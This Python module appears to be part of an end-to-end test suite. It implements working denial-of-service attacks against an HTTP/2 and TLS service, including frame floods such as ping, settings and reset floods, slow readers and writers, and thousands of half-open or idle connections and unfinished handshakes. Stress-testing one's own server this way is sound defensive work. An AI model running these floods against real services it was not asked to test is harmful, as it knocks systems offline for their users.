"""``python -m tests.end_to_end.transports.attacks ADDRESS NAME``: attacks a service until it is killed."""

from __future__ import annotations

import contextlib
import itertools
import socket
import ssl
import sys
import time
from collections import deque
from collections.abc import Callable, Iterator
from typing import Final

from hyperframe.frame import DataFrame, SettingsFrame, WindowUpdateFrame

from tests.end_to_end.transports import flood
from tests.end_to_end.transports.callers import guarded
from tests.end_to_end.transports.orders import Order
from tests.end_to_end.transports.wire import framed

_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_GREETING: Final = _PREFACE + SettingsFrame(0).serialize() + SettingsFrame(0, flags=["ACK"]).serialize()
_CONNECTIONS: Final = 2_000
_AT_ONCE: Final = 100
_HALF_A_HELLO: Final = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
"""Beginning of a TLS handshake."""

Attack = Callable[[str], Iterator[None]]
"""Function that starts an attack on an address: each step continues it, and what it has opened stays open."""


def _connect(address: str) -> socket.socket:
    host, _, port = address.rpartition(":")
    return socket.create_connection((host, int(port)), timeout=60.0)


def _flooding(kind: flood.Kind) -> Attack:
    def attack(address: str) -> Iterator[None]:
        while True:
            frames = kind(guarded("Unary"))
            with _connect(address) as connection:
                connection.settimeout(5.0)
                try:
                    connection.sendall(_GREETING)
                    while True:
                        connection.sendall(b"".join(itertools.islice(frames, _AT_ONCE)))
                        yield
                except OSError:
                    yield

    return attack


def _holding(first: bytes, then: bytes = b"", connections: int = _CONNECTIONS) -> Attack:
    """Open many connections and keep them, with some bytes now and then; reopen those that are closed."""

    def attack(address: str) -> Iterator[None]:
        held: list[socket.socket] = []
        while len(held) < connections:
            held.append(_connect(address))
            held[-1].sendall(first)
        while True:
            yield
            for index, connection in enumerate(held):
                try:
                    connection.sendall(then or first[:1])
                except OSError:
                    held[index] = _connect(address)
                    held[index].sendall(first)
                if index % _AT_ONCE == 0:
                    yield

    return attack


def _idle(address: str) -> Iterator[None]:
    held = []
    for _ in range(_CONNECTIONS):
        held.append(_connect(address))
        held[-1].sendall(_GREETING)
    while True:
        yield
        time.sleep(0.1)


def _silent(address: str) -> Iterator[None]:
    held: deque[socket.socket] = deque(maxlen=_CONNECTIONS)
    while True:
        held.append(_connect(address))
        if len(held) == _CONNECTIONS:
            yield


def _hello() -> bytes:
    """Return everything that a client sends first in a TLS handshake."""
    said = ssl.MemoryBIO()
    handshake = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), said, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        handshake.do_handshake()
    return said.read()


def _calls(number: int, message: bytes, *, whole: bool = True, window: int = 0) -> bytes:
    settings = SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: window}) if window else SettingsFrame(0)
    parts = [_PREFACE, settings.serialize(), SettingsFrame(0, flags=["ACK"]).serialize()]
    if window:
        parts.append(WindowUpdateFrame(0, window_increment=window).serialize())
    for stream, head in itertools.islice(flood.heads(guarded("Unary")), number):
        parts += [head, DataFrame(stream, message, flags=["END_STREAM"] if whole else []).serialize()]
    return b"".join(parts)


def _slow_readers(address: str) -> Iterator[None]:
    """Request large answers with a very large window, and read nothing."""
    calls = _calls(500, framed(Order(size=100_000)), window=1 << 30)
    held = []
    for _ in range(20):
        held.append(_connect(address))
        held[-1].sendall(calls)
    while True:
        yield
        time.sleep(0.1)


_BEGUN: Final = _calls(1, framed(Order(ballast="x" * 10_000))[:1_000], whole=False)
_BYTE: Final = DataFrame(1, b"x").serialize()

ATTACKS: Final[dict[str, Attack]] = {
    **{
        f"flood_of_{kind.__name__}": _flooding(kind)
        for kind in (
            flood.pings, flood.settings, flood.window_updates, flood.priorities, flood.continuations, flood.empty_data,
            flood.one_byte_data, flood.streams, flood.resets, flood.resets_of_whole_calls,
        )
    },
    "slow_readers": _slow_readers,
    "slow_writers": _holding(_BEGUN, _BYTE, 500),
    "half_open_connections": _holding(b"P", b"R"),
    "idle_connections": _idle,
}  # fmt: skip
ON_TLS: Final[dict[str, Attack]] = {
    "silent_connections": _silent,
    "half_open_handshakes": _holding(_HALF_A_HELLO, b"\0", 1_000),
    # The handshake is answered but not completed; the beginning of another record follows.
    "unfinished_handshakes": _holding(_hello(), b"\x16", 1_000),
}


def main() -> None:
    address, name = sys.argv[1:]
    steps = (ATTACKS | ON_TLS)[name](address)
    next(steps)
    sys.stdout.write("attacking\n")
    sys.stdout.flush()
    for _ in steps:
        """Continue until the process is killed."""


if __name__ == "__main__":
    main()
